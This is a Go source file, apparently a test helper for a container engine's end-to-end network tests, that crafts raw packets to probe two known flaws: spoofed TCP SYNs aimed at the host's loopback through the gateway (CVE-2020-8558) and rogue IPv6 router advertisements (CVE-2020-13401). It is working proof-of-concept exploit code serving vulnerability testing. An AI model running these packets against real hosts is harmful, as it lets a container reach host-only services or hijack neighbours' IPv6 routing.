// rawnet is the hostile container of e2e_network_test.go: it uses NET_RAW, a capability every container
// has by default, to send what the kernel's own stack never would.
//
//	rawnet syn IP PORT   a TCP SYN from eth0's own address and MAC to IP:PORT, sent to the gateway's MAC
//	                     (from the ARP table) on an AF_PACKET socket (CVE-2020-8558: IP 127.0.0.1 reaches
//	                     the host's loopback if the host routes it). It completes the handshake if
//	                     answered and prints "SYN-ACK from IP", "RST from IP" or, after 5 seconds,
//	                     "no answer".
//	rawnet ra PREFIX     an IPv6 router advertisement for PREFIX/64 (with a router lifetime) to all
//	                     nodes, ff02::1, on eth0 (CVE-2020-13401); prints "sent".
//
// Every packet stays on the engine's bridge: a unicast frame to the gateway's MAC, or link-local
// multicast, which no router forwards.
package main

import (
	"bufio"
	"encoding/binary"
	"fmt"
	"net"
	"os"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	var err error
	switch {
	case len(os.Args) == 4 && os.Args[1] == "syn":
		err = syn(os.Args[2], os.Args[3])
	case len(os.Args) == 3 && os.Args[1] == "ra":
		err = routerAdvertisement(os.Args[2])
	default:
		err = fmt.Errorf("usage: rawnet syn IP PORT | rawnet ra PREFIX")
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, "rawnet:", err)
		os.Exit(1)
	}
}

// eth0 is the container's interface, its MAC and IPv4 address.
func eth0() (*net.Interface, net.IP, error) {
	link, err := net.InterfaceByName("eth0")
	if err != nil {
		return nil, nil, err
	}
	addresses, err := link.Addrs()
	if err != nil {
		return nil, nil, err
	}
	for _, address := range addresses {
		if ipnet, ok := address.(*net.IPNet); ok && ipnet.IP.To4() != nil {
			return link, ipnet.IP.To4(), nil
		}
	}
	return nil, nil, fmt.Errorf("eth0 has no IPv4 address")
}

func syn(destination, portArg string) error {
	gateway, err := gatewayMAC()
	if err != nil {
		return err
	}
	dst := net.ParseIP(destination).To4()
	port, err := strconv.Atoi(portArg)
	if dst == nil || err != nil {
		return fmt.Errorf("bad destination %s:%s", destination, portArg)
	}
	link, src, err := eth0()
	if err != nil {
		return err
	}
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, int(htons(unix.ETH_P_IP)))
	if err != nil {
		return fmt.Errorf("packet socket: %w", err)
	}
	defer unix.Close(fd)
	to := &unix.SockaddrLinklayer{Protocol: htons(unix.ETH_P_IP), Ifindex: link.Index, Halen: 6}
	copy(to.Addr[:], gateway)
	if err := unix.Bind(fd, to); err != nil {
		return fmt.Errorf("bind: %w", err)
	}
	unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Usec: 200000})
	segment := tcpSegment{srcPort: 40000 + os.Getpid()%20000, dstPort: port, seq: 0x1000, flags: tcpSYN}
	frame := func(s tcpSegment) []byte { return ethernetFrame(gateway, link.HardwareAddr, ipv4Packet(src, dst, s)) }
	buf := make([]byte, 2048)
	deadline := time.Now().Add(5 * time.Second)
	var lastSent time.Time
	for time.Now().Before(deadline) {
		if time.Since(lastSent) > time.Second { // a SYN a second, in case one is lost
			if err := unix.Sendto(fd, frame(segment), 0, to); err != nil {
				return fmt.Errorf("send: %w", err)
			}
			lastSent = time.Now()
		}
		n, _, err := unix.Recvfrom(fd, buf, 0)
		if err != nil {
			continue // the receive timeout
		}
		from, reply, ok := parseTCP(buf[:n], segment)
		if !ok {
			continue
		}
		if reply.flags&tcpRST != 0 {
			fmt.Println("RST from", from)
			return nil
		}
		if reply.flags&(tcpSYN|tcpACK) == tcpSYN|tcpACK {
			ack := tcpSegment{srcPort: segment.srcPort, dstPort: port, seq: segment.seq + 1, ack: reply.seq + 1, flags: tcpACK}
			unix.Sendto(fd, frame(ack), 0, to)
			fmt.Println("SYN-ACK from", from)
			return nil
		}
	}
	fmt.Println("no answer")
	return nil
}

// gatewayMAC is the MAC of the default route's gateway, as ARP finds it: a datagram to the gateway's
// discard port makes the kernel ask.
func gatewayMAC() (net.HardwareAddr, error) {
	gateway, err := defaultGateway()
	if err != nil {
		return nil, err
	}
	if conn, err := net.Dial("udp4", net.JoinHostPort(gateway, "9")); err == nil {
		conn.Write([]byte("arp"))
		conn.Close()
	}
	for deadline := time.Now().Add(10 * time.Second); time.Now().Before(deadline); time.Sleep(50 * time.Millisecond) {
		table, err := os.ReadFile("/proc/net/arp")
		if err != nil {
			return nil, err
		}
		for _, line := range strings.Split(string(table), "\n") {
			fields := strings.Fields(line) // IP, HW type, flags, HW address, mask, device
			if len(fields) == 6 && fields[0] == gateway && fields[2] == "0x2" {
				return net.ParseMAC(fields[3])
			}
		}
	}
	return nil, fmt.Errorf("no ARP entry for the gateway %s", gateway)
}

// defaultGateway reads the default route's gateway from /proc/net/route (little-endian hex).
func defaultGateway() (string, error) {
	table, err := os.ReadFile("/proc/net/route")
	if err != nil {
		return "", err
	}
	for _, line := range strings.Split(string(table), "\n") {
		fields := strings.Fields(line) // device, destination, gateway, ...
		if len(fields) > 2 && fields[1] == "00000000" {
			gateway, err := strconv.ParseUint(fields[2], 16, 32)
			if err != nil {
				return "", err
			}
			return net.IP(binary.LittleEndian.AppendUint32(nil, uint32(gateway))).String(), nil
		}
	}
	return "", fmt.Errorf("no default route")
}

const (
	tcpSYN = 0x02
	tcpRST = 0x04
	tcpACK = 0x10
)

type tcpSegment struct {
	srcPort, dstPort int
	seq, ack         uint32
	flags            byte
}

func htons(v uint16) uint16 { return v<<8 | v>>8 }

func ethernetFrame(dst, src net.HardwareAddr, payload []byte) []byte {
	frame := append(append(append([]byte{}, dst...), src...), 0x08, 0x00) // EtherType IPv4
	return append(frame, payload...)
}

// ipv4Packet is a 20-byte IPv4 header and a 20-byte TCP header, both checksummed.
func ipv4Packet(src, dst net.IP, s tcpSegment) []byte {
	tcp := make([]byte, 20)
	binary.BigEndian.PutUint16(tcp[0:], uint16(s.srcPort))
	binary.BigEndian.PutUint16(tcp[2:], uint16(s.dstPort))
	binary.BigEndian.PutUint32(tcp[4:], s.seq)
	binary.BigEndian.PutUint32(tcp[8:], s.ack)
	tcp[12], tcp[13] = 5<<4, s.flags
	binary.BigEndian.PutUint16(tcp[14:], 64240) // window
	pseudo := append(append(append([]byte{}, src...), dst...), 0, unix.IPPROTO_TCP, 0, byte(len(tcp)))
	binary.BigEndian.PutUint16(tcp[16:], checksum(append(pseudo, tcp...)))

	ip := []byte{0x45, 0, 0, 0, 0, 1, 0x40, 0, 64, unix.IPPROTO_TCP, 0, 0}
	binary.BigEndian.PutUint16(ip[2:], uint16(20+len(tcp)))
	ip = append(append(ip, src...), dst...)
	binary.BigEndian.PutUint16(ip[10:], checksum(ip))
	return append(ip, tcp...)
}

func checksum(b []byte) uint16 {
	var sum uint32
	for i := 0; i+1 < len(b); i += 2 {
		sum += uint32(binary.BigEndian.Uint16(b[i:]))
	}
	if len(b)%2 == 1 {
		sum += uint32(b[len(b)-1]) << 8
	}
	for sum > 0xffff {
		sum = sum&0xffff + sum>>16
	}
	return ^uint16(sum)
}

// parseTCP picks out of an Ethernet frame a TCP segment that answers sent, and its source address.
func parseTCP(frame []byte, sent tcpSegment) (net.IP, tcpSegment, bool) {
	if len(frame) < 14+20+20 || frame[12] != 0x08 || frame[13] != 0x00 {
		return nil, tcpSegment{}, false
	}
	ip := frame[14:]
	headerLength := int(ip[0]&0x0f) * 4
	if ip[9] != unix.IPPROTO_TCP || len(ip) < headerLength+20 {
		return nil, tcpSegment{}, false
	}
	tcp := ip[headerLength:]
	s := tcpSegment{
		srcPort: int(binary.BigEndian.Uint16(tcp[0:])), dstPort: int(binary.BigEndian.Uint16(tcp[2:])),
		seq: binary.BigEndian.Uint32(tcp[4:]), ack: binary.BigEndian.Uint32(tcp[8:]), flags: tcp[13],
	}
	if s.srcPort != sent.dstPort || s.dstPort != sent.srcPort {
		return nil, tcpSegment{}, false
	}
	return net.IP(ip[12:16]), s, true
}

// routerAdvertisement sends an RA (RFC 4861 4.2) with a prefix-information option, from eth0's
// link-local address (receivers ignore an RA from any other source) with hop limit 255 (they check that
// it was never routed). The kernel computes an ICMPv6 raw socket's checksum itself.
func routerAdvertisement(prefixArg string) error {
	prefix := net.ParseIP(prefixArg)
	if prefix == nil || prefix.To4() != nil {
		return fmt.Errorf("bad IPv6 prefix %q", prefixArg)
	}
	link, err := net.InterfaceByName("eth0")
	if err != nil {
		return err
	}
	if err := awaitLinkLocal(link.Index); err != nil {
		return err
	}
	fd, err := unix.Socket(unix.AF_INET6, unix.SOCK_RAW, unix.IPPROTO_ICMPV6)
	if err != nil {
		return fmt.Errorf("ICMPv6 socket: %w", err)
	}
	defer unix.Close(fd)
	unix.SetsockoptInt(fd, unix.IPPROTO_IPV6, unix.IPV6_MULTICAST_HOPS, 255)
	unix.SetsockoptInt(fd, unix.IPPROTO_IPV6, unix.IPV6_MULTICAST_IF, link.Index)
	// Type 134, code 0, checksum, hop limit 64, no flags, router lifetime 1800 s, reachable time and
	// retransmission timer unspecified; then the options: our link-layer address, and the prefix
	// (a /64, on-link and autonomous: SLAAC makes an address from it) valid for a day.
	ra := []byte{134, 0, 0, 0, 64, 0, 0x07, 0x08, 0, 0, 0, 0, 0, 0, 0, 0}
	ra = append(append(ra, 1, 1), link.HardwareAddr...)
	option := []byte{3, 4, 64, 0xc0}
	option = binary.BigEndian.AppendUint32(option, 86400)
	option = binary.BigEndian.AppendUint32(option, 14400)
	option = append(append(option, 0, 0, 0, 0), prefix.To16()...)
	ra = append(ra, option...)
	to := &unix.SockaddrInet6{ZoneId: uint32(link.Index)}
	copy(to.Addr[:], net.ParseIP("ff02::1").To16())
	for i := 0; i < 3; i++ {
		if err := unix.Sendto(fd, ra, 0, to); err != nil {
			return fmt.Errorf("send: %w", err)
		}
		time.Sleep(300 * time.Millisecond)
	}
	fmt.Println("sent")
	return nil
}

// awaitLinkLocal waits until eth0 has a link-local address that duplicate address detection has
// cleared (not IFA_F_TENTATIVE in /proc/net/if_inet6): until then it cannot be a source.
func awaitLinkLocal(index int) error {
	for deadline := time.Now().Add(20 * time.Second); time.Now().Before(deadline); time.Sleep(100 * time.Millisecond) {
		file, err := os.Open("/proc/net/if_inet6")
		if err != nil {
			return err
		}
		lines := bufio.NewScanner(file)
		for lines.Scan() {
			fields := strings.Fields(lines.Text()) // address, index, prefix length, scope, flags, name
			if len(fields) < 6 {
				continue
			}
			linkIndex, _ := strconv.ParseInt(fields[1], 16, 32)
			flags, _ := strconv.ParseUint(fields[4], 16, 32)
			if int(linkIndex) == index && strings.HasPrefix(fields[0], "fe80") && flags&0x40 == 0 {
				file.Close()
				return nil
			}
		}
		file.Close()
	}
	return fmt.Errorf("eth0 has no usable link-local address after 20 s")
}
